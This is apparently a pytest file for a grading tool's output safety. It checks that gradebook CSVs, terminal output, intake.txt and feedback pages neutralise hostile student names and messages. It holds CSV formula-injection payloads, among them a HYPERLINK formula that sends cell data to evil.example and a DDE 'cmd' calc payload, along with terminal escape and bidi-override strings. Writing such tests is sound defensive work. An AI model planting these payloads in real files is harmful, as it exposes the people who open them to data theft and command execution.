"""Outputs that people open are safe to open (issue 14, point 6): no formula runs in a
spreadsheet, no escape sequence or bidi override reaches a terminal, intake.txt or a page,
and no output grows without bound.

The CSV test opens the gradebooks with a real spreadsheet (LibreOffice, headless): CI
installs it and sets GRADER_REQUIRE_SPREADSHEET=1, so a missing one is a failure there.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from conftest import run_cli
from grader._grading.api import canvas_gradebook, gradebook
from grader._course.models import ProblemResult, Result, TestResult

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "=cmd|' /C calc'!A0"]


def _result(student: str, output: str = "") -> Result:
    test = TestResult(name="p: t", problem="p", status="passed", outcome="passed", score=1.0, max_score=1.0,
                      visibility="visible", output=output, test="test_t", duration=0.1)
    return Result(assignment="a", student=student, score=1.0, max_score=1.0, execution_time=0.1,
                  problems=[ProblemResult(id="p", title="P", score=1.0, max_score=1.0)], tests=[test], mode="grade",
                  seed=1, device="cpu", student_time=0.1, canvas_id=None)


def _formulas(csv_path: Path, tmp: Path) -> list[str]:
    """The formulas LibreOffice finds in a CSV it opens (converted to .ods, read back)."""
    soffice = shutil.which("soffice")
    if soffice is None:
        if os.environ.get("GRADER_REQUIRE_SPREADSHEET"):
            pytest.fail("LibreOffice (soffice) is required here: apt-get install libreoffice-calc-nogui")
        pytest.skip("no LibreOffice here (apt-get install libreoffice-calc-nogui)")
    out = tmp / f"ods-{csv_path.stem}"
    profile = tmp / "lo-profile"
    subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "ods",
                    "--outdir", str(out), str(csv_path)], check=True, capture_output=True, timeout=180)
    content = zipfile.ZipFile(out / f"{csv_path.stem}.ods").read("content.xml").decode()
    return [part.split('"', 1)[0] for part in content.split('table:formula="')[1:]]


def test_no_formula_in_a_gradebook_runs_in_a_spreadsheet(tmp_path: Path) -> None:
    results = [_result(name) for name in HOSTILE_NAMES]
    raw = tmp_path / "raw.csv"  # the control: the same names written as they came are formulas
    raw.write_text("student,score\n" + "".join(f'"{n.replace(chr(34), chr(34) * 2)}",1\n' for n in HOSTILE_NAMES))
    assert _formulas(raw, tmp_path), "the spreadsheet should run the unguarded names: this test would see nothing"
    for name, text in (("gradebook", gradebook(None, results)), ("canvas", canvas_gradebook(results))):
        path = tmp_path / f"{name}.csv"
        path.write_text(text)
        assert _formulas(path, tmp_path) == [], f"{name}.csv: formulas run when opened"


def test_names_and_messages_reach_intake_the_terminal_and_pages_escaped(tmp_path: Path) -> None:
    classroom = tmp_path / "class"
    evil = "mallory\u202egnp.exe\x1b[2J"
    forged = "eve\n  honest_a                     backprop.py"
    for name in (evil, forged):
        (classroom / name).mkdir(parents=True)
        (classroom / name / "backprop.py").write_text("def backprop(*a):\n    raise ValueError('\\x1b[31m\\u202eboom')\n")
    out = tmp_path / "out"
    proc = run_cli("grade", "mfdnn-hw5", classroom, "--out", out, "--problem", "backprop", "--seed", "1", "--jobs", "1")
    assert proc.returncode == 0, proc.stderr[-3000:]
    for text, where in ((proc.stdout, "stdout"), (proc.stderr, "stderr"), ((out / "intake.txt").read_text(), "intake.txt")):
        assert "\x1b[2J" not in text and "\u202e" not in text, where
        assert "\\x1b[2J" in text or where == "stdout", where
    intake = (out / "intake.txt").read_text().splitlines()
    assert not any(line.startswith("  honest_a") for line in intake), "a name forged a line of intake.txt"
    for page in out.glob("*/feedback.html"):
        html = page.read_text()
        assert "\u202e" not in html and "\x1b" not in html, page


def test_a_flooding_message_is_capped_in_result_json(tmp_path: Path) -> None:
    classroom = tmp_path / "class"
    (classroom / "flood").mkdir(parents=True)
    (classroom / "flood" / "backprop.py").write_text("def backprop(*a):\n    raise ValueError('x' * 5_000_000)\n")
    out = tmp_path / "out"
    proc = run_cli("grade", "mfdnn-hw5", classroom, "--out", out, "--problem", "backprop", "--seed", "1")
    assert proc.returncode == 0, proc.stderr[-3000:]
    size = (out / "flood" / "result.json").stat().st_size
    assert size < 200_000, f"result.json is {size} bytes"
